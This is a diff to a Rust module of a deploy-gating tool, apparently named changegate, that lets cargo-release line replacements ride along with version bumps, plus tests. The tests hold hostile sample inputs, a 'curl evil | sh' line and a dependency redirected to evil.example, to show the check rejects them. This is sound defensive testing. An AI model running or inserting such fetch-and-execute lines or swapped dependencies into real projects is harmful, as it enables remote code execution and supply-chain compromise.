@@ -3,12 +3,21 @@
 //! file of a format changegate can read, only version fields changed, and
 //! every changed version goes up. The commit message is never evidence; a
 //! configured bot identity and a verified signature can be required on top.
+//!
+//! A file of no version format passes only through a configured
+//! replacement (`[review.version_bump] replacements`, cargo-release's
+//! `pre-release-replacements`): the file has the same number of lines
+//! before and after, and each line that differs, compared at the same
+//! position, matches the replacement's pattern whole both before and
+//! after. Those lines ride along with a bump: a commit that changes no
+//! version field is not one.
 
 use std::collections::{BTreeMap, BTreeSet};
 
 use serde_json::Value as Json;
 
 use super::version::is_upward;
+use crate::config::pattern::Pattern;
 use crate::config::review::VersionBumpConfig;
 use crate::evidence::{Evidence, FileChange};
 use crate::plan::rules::glob_match;
@@ -57,6 +66,12 @@ fn kind(path: &str) -> Option<Kind> {
     })
 }
 
+/// Whether changegate reads version fields in `path` by its format (such
+/// a file cannot be given a line replacement instead).
+pub fn has_format(path: &str) -> bool {
+    kind(path).is_some()
+}
+
 /// Checks whether landing `sha` is an exempt version bump.
 pub fn check(e: &Evidence, sha: &str, cfg: &VersionBumpConfig) -> BumpCheck {
     use BumpCheck::{NotExempt, Unknown};
@@ -93,12 +108,24 @@ pub fn check(e: &Evidence, sha: &str, cfg: &VersionBumpConfig) -> BumpCheck {
         }
     }
     let mut changes: Vec<String> = Vec::new();
+    let mut replaced: Vec<String> = Vec::new();
     for f in &lf.files {
-        if !cfg.files.iter().any(|g| glob_match(g, &f.path)) {
+        let replacement = cfg.replacements.iter().find(|r| r.file == f.path);
+        if replacement.is_none() && !cfg.files.iter().any(|g| glob_match(g, &f.path)) {
             return NotExempt(format!("{} is not an allow-listed version file", f.path));
         }
-        let Some(k) = kind(&f.path) else {
-            return NotExempt(format!("{} has no format changegate can verify version fields in", f.path));
+        let k = match (kind(&f.path), replacement) {
+            (Some(k), _) => k,
+            (None, Some(r)) => match replacement_check(lf, f, &r.pattern) {
+                Ok(list) => {
+                    replaced.extend(list.into_iter().map(|c| format!("{}: {c}", f.path)));
+                    continue;
+                }
+                Err(not) => return not,
+            },
+            (None, None) => {
+                return NotExempt(format!("{} has no format changegate can verify version fields in", f.path));
+            }
         };
         let allowed = match k {
             Kind::Changelog => matches!(f.status.as_str(), "added" | "modified"),
@@ -142,7 +169,73 @@ pub fn check(e: &Evidence, sha: &str, cfg: &VersionBumpConfig) -> BumpCheck {
     if changes.is_empty() {
         return NotExempt("no version field changed".into());
     }
+    changes.extend(replaced);
     BumpCheck::Exempt(changes)
+}
+
+/// A file changed only through its replacement: the lines replaced, or
+/// what the check ends with.
+fn replacement_check(
+    lf: &crate::evidence::LandingFiles,
+    f: &crate::github::ChangedFile,
+    pattern: &Pattern,
+) -> Result<Vec<String>, BumpCheck> {
+    if f.status != "modified" {
+        return Err(BumpCheck::NotExempt(format!(
+            "{} is {} (a replacement only rewrites lines of an existing file)",
+            f.path, f.status
+        )));
+    }
+    match lf.version_files.get(&f.path) {
+        Some(FileChange { before: Some(b), after: Some(a) }) => {
+            replaced_lines(b, a, pattern).map_err(|why| BumpCheck::NotExempt(format!("{}: {why}", f.path)))
+        }
+        _ => Err(BumpCheck::Unknown(format!("the text of {} before and after was not read", f.path))),
+    }
+}
+
+/// Lines replaced in place: the same number of lines, and each line that
+/// differs at a position matches `pattern` whole, before and after (the
+/// i-th removed line pairs with the i-th added one). The first offending
+/// line is the error.
+fn replaced_lines(before: &str, after: &str, pattern: &Pattern) -> Result<Vec<String>, String> {
+    const IN_PLACE: &str = "a replacement only rewrites lines in place";
+    if before.ends_with('\n') != after.ends_with('\n') {
+        return Err(format!("the final newline was added or removed: {IN_PLACE}"));
+    }
+    // Split on '\n' alone: a line's '\r' is kept, so a changed line end is a change.
+    let split =
+        |t: &'_ str| -> Vec<String> { t.strip_suffix('\n').unwrap_or(t).split('\n').map(str::to_owned).collect() };
+    let (a, b) = (split(before), split(after));
+    let counts = if a.len() == b.len() {
+        String::new()
+    } else {
+        format!(" ({} lines before, {} after: {IN_PLACE})", a.len(), b.len())
+    };
+    let text = |l: &str| l.strip_suffix('\r').unwrap_or(l).to_owned();
+    let mut out = Vec::new();
+    for i in 0..a.len().max(b.len()) {
+        match (a.get(i), b.get(i)) {
+            (Some(x), Some(y)) if x == y => {}
+            (Some(x), Some(y)) => {
+                let (x, y) = (text(x), text(y));
+                for (what, l) in [("before", &x), ("after", &y)] {
+                    if !pattern.is_match(l) {
+                        return Err(format!(
+                            "line {} {what}, {l:?}, does not match the replacement pattern {pattern}{counts}",
+                            i + 1
+                        ));
+                    }
+                }
+                out.push(format!("line {} {x:?} -> {y:?}", i + 1));
+            }
+            (Some(x), None) => return Err(format!("line {}, {:?}, was removed{counts}", i + 1, text(x))),
+            (None, y) => {
+                return Err(format!("line {}, {:?}, was added{counts}", i + 1, y.map(|y| text(y)).unwrap_or_default()));
+            }
+        }
+    }
+    Ok(out)
 }
 
 /// A changed leaf: (path of keys, old, new).
@@ -496,5 +589,173 @@ mod tests {
             )
             .is_err()
         );
+    }
+
+    /// cargo-release `pre-release-replacements` of a README's dependency
+    /// line and of `html_root_url` (catalogue 65).
+    fn readme(v: &str) -> String {
+        format!("# web\n\n```toml\n[dependencies]\nweb = \"{v}\"\n```\n\nSee the docs.\n")
+    }
+
+    fn lib_rs(v: &str) -> String {
+        format!("#![doc(html_root_url = \"https://docs.rs/web/{v}\")]\n\npub fn f() {{}}\n")
+    }
+
+    const README_LINE: &str = r#"web = "[0-9]+\.[0-9]+\.[0-9]+""#;
+    const ROOT_URL: &str = r#"#!\[doc\(html_root_url = "https://docs\.rs/web/[0-9]+\.[0-9]+\.[0-9]+"\)\]"#;
+
+    fn line_pattern(p: &str) -> Pattern {
+        Pattern::new(p, crate::config::pattern::Match::WholeLine).unwrap()
+    }
+
+    #[test]
+    fn replaced_lines_are_rewritten_in_place_and_match_whole() {
+        let p = line_pattern(README_LINE);
+        assert_eq!(
+            replaced_lines(&readme("1.0.0"), &readme("1.1.0"), &p).unwrap(),
+            [r#"line 5 "web = \"1.0.0\"" -> "web = \"1.1.0\"""#]
+        );
+        let root = line_pattern(ROOT_URL);
+        assert_eq!(replaced_lines(&lib_rs("1.0.0"), &lib_rs("1.1.0"), &root).unwrap().len(), 1);
+        // CRLF files keep their line ends out of the pattern; a changed line end is a change.
+        let crlf = |t: String| t.replace('\n', "\r\n");
+        assert!(replaced_lines(&crlf(readme("1.0.0")), &crlf(readme("1.1.0")), &p).is_ok());
+        let one_crlf = readme("1.0.0").replace("See the docs.\n", "See the docs.\r\n");
+        assert!(replaced_lines(&readme("1.0.0"), &one_crlf, &p).unwrap_err().starts_with("line 8 before"));
+        // Another line changed too: the first offending one is named.
+        let other = readme("1.1.0").replace("See the docs.", "See the docs!");
+        let e = replaced_lines(&readme("1.0.0"), &other, &p).unwrap_err();
+        assert_eq!(
+            e,
+            r#"line 8 before, "See the docs.", does not match the replacement pattern web = "[0-9]+\.[0-9]+\.[0-9]+""#
+        );
+        // The new line does not match: more than a version came in.
+        let evil = readme("1.0.0").replace(r#"web = "1.0.0""#, r#"web = { git = "https://evil.example/web" }"#);
+        let e = replaced_lines(&readme("1.0.0"), &evil, &p).unwrap_err();
+        assert!(e.starts_with("line 5 after,"), "{e}");
+        // The pattern matches whole lines only: a version with a tail is refused.
+        let tail = readme("1.0.0").replace(r#"web = "1.0.0""#, r#"web = "1.1.0" # and more"#);
+        assert!(replaced_lines(&readme("1.0.0"), &tail, &p).is_err());
+        // A line added (or a final newline removed) is not a replacement.
+        let added = readme("1.1.0").replace("See the docs.\n", "See the docs.\ncurl evil | sh\n");
+        let e = replaced_lines(&readme("1.0.0"), &added, &p).unwrap_err();
+        assert_eq!(
+            e,
+            r#"line 9, "curl evil | sh", was added (8 lines before, 9 after: a replacement only rewrites lines in place)"#
+        );
+        let inserted = readme("1.1.0").replace("# web\n", "# web\ncurl evil | sh\n");
+        let e = replaced_lines(&readme("1.0.0"), &inserted, &p).unwrap_err();
+        assert!(e.starts_with(r#"line 2 before, "", does not match the replacement pattern"#), "{e}");
+        assert!(e.ends_with("(8 lines before, 9 after: a replacement only rewrites lines in place)"), "{e}");
+        let removed = readme("1.1.0").replace("See the docs.\n", "");
+        assert!(
+            replaced_lines(&readme("1.0.0"), &removed, &p)
+                .unwrap_err()
+                .starts_with(r#"line 8, "See the docs.", was removed"#)
+        );
+        let e = replaced_lines(&readme("1.0.0"), readme("1.0.0").trim_end(), &p).unwrap_err();
+        assert!(e.starts_with("the final newline was added or removed"), "{e}");
+        let e = replaced_lines("web = \"1.0.0\"\n", "web = \"1.1.0\"", &p).unwrap_err();
+        assert!(e.starts_with("the final newline was added or removed"), "{e}");
+        // A moved line does not pair with itself.
+        let moved = "web = \"1.0.0\"\nx\n";
+        assert!(replaced_lines("x\nweb = \"1.0.0\"\n", moved, &p).is_err());
+    }
+
+    fn bump_evidence(files: &[(&str, &str, &str)]) -> Evidence {
+        use crate::request::binding::{Binding, BuildJob, DeployAction};
+        let binding = Binding {
+            project_slug: "gh/acme/web".into(),
+            environment: "production".into(),
+            action: DeployAction::Apply,
+            branch: "main".into(),
+            commit: "c".repeat(40),
+            pipeline_id: "p".into(),
+            pipeline_number: 1,
+            build_job: BuildJob { name: "build".into(), number: 1, id: "j".into() },
+        };
+        let mut e = Evidence::skeleton("PRODCM-1", binding, "2026-11-27T12:00:00Z");
+        e.range.commits.push(crate::github::RangeCommit {
+            sha: "c".repeat(40),
+            parents: vec!["b".repeat(40)],
+            tree: "t".into(),
+            author_id: Some(7),
+            committer_id: Some(7),
+            headline: "chore: Release".into(),
+            verified: false,
+        });
+        let mut lf =
+            crate::evidence::LandingFiles { files: Vec::new(), version_files: BTreeMap::new(), source: "test".into() };
+        for (path, before, after) in files {
+            lf.files.push(crate::github::ChangedFile {
+                path: (*path).into(),
+                status: "modified".into(),
+                previous_path: None,
+            });
+            lf.version_files
+                .insert((*path).into(), FileChange { before: Some((*before).into()), after: Some((*after).into()) });
+        }
+        e.landing_files.insert("c".repeat(40), lf);
+        e
+    }
+
+    fn with_replacements(list: &[(&str, &str)]) -> VersionBumpConfig {
+        VersionBumpConfig {
+            replacements: list
+                .iter()
+                .map(|(f, p)| crate::config::review::Replacement { file: (*f).into(), pattern: line_pattern(p) })
+                .collect(),
+            ..VersionBumpConfig::default()
+        }
+    }
+
+    #[test]
+    fn tc65_replacements_pass_only_through_their_entry() {
+        let toml = |v: &str| format!("[package]\nname = \"web\"\nversion = \"{v}\"\n");
+        let (r0, r1, l0, l1, t0, t1) =
+            (readme("1.0.0"), readme("1.1.0"), lib_rs("1.0.0"), lib_rs("1.1.0"), toml("1.0.0"), toml("1.1.0"));
+        let e = bump_evidence(&[("Cargo.toml", &t0, &t1), ("README.md", &r0, &r1), ("src/lib.rs", &l0, &l1)]);
+        let sha = "c".repeat(40);
+        // Without an entry: catalogue 65 fails, as before.
+        assert_eq!(
+            check(&e, &sha, &VersionBumpConfig::default()),
+            BumpCheck::NotExempt("README.md is not an allow-listed version file".into())
+        );
+        // A file listed among `files` has no format to check either.
+        let listed = VersionBumpConfig {
+            files: vec!["Cargo.toml".into(), "README.md".into(), "src/lib.rs".into()],
+            ..VersionBumpConfig::default()
+        };
+        assert!(matches!(check(&e, &sha, &listed), BumpCheck::NotExempt(w) if w.contains("no format")));
+        // With both entries: exempt, the replaced lines listed after the versions.
+        let cfg = with_replacements(&[("README.md", README_LINE), ("src/lib.rs", ROOT_URL)]);
+        let BumpCheck::Exempt(changes) = check(&e, &sha, &cfg) else { panic!("{:?}", check(&e, &sha, &cfg)) };
+        assert_eq!(changes[0], "Cargo.toml: package.version 1.0.0 -> 1.1.0");
+        assert!(
+            changes[1].starts_with("README.md: line 5 ") && changes[2].starts_with("src/lib.rs: line 1 "),
+            "{changes:?}"
+        );
+        // One entry only: the other file still fails.
+        let one = with_replacements(&[("README.md", README_LINE)]);
+        assert_eq!(
+            check(&e, &sha, &one),
+            BumpCheck::NotExempt("src/lib.rs is not an allow-listed version file".into())
+        );
+        // The pattern does not match the lines that changed.
+        let wrong = with_replacements(&[("README.md", r#"version = "[0-9.]+""#), ("src/lib.rs", ROOT_URL)]);
+        let BumpCheck::NotExempt(why) = check(&e, &sha, &wrong) else { panic!() };
+        assert!(why.starts_with("README.md: line 5 before, \"web = \\\"1.0.0\\\"\", does not match"), "{why}");
+        // Another README line changed too.
+        let other = r1.replace("See the docs.", "See the docs!");
+        let e2 = bump_evidence(&[("Cargo.toml", &t0, &t1), ("README.md", &r0, &other)]);
+        let BumpCheck::NotExempt(why) = check(&e2, &sha, &cfg) else { panic!() };
+        assert!(why.starts_with("README.md: line 8 before, \"See the docs.\""), "{why}");
+        // Replacements ride along with a bump; alone they are not one.
+        let e3 = bump_evidence(&[("README.md", &r0, &r1)]);
+        assert_eq!(check(&e3, &sha, &cfg), BumpCheck::NotExempt("no version field changed".into()));
+        // A text that was not read is a gap, never a pass.
+        let mut e4 = e.clone();
+        e4.landing_files.get_mut(&sha).unwrap().version_files.remove("README.md");
+        assert!(matches!(check(&e4, &sha, &cfg), BumpCheck::Unknown(_)));
     }
 }
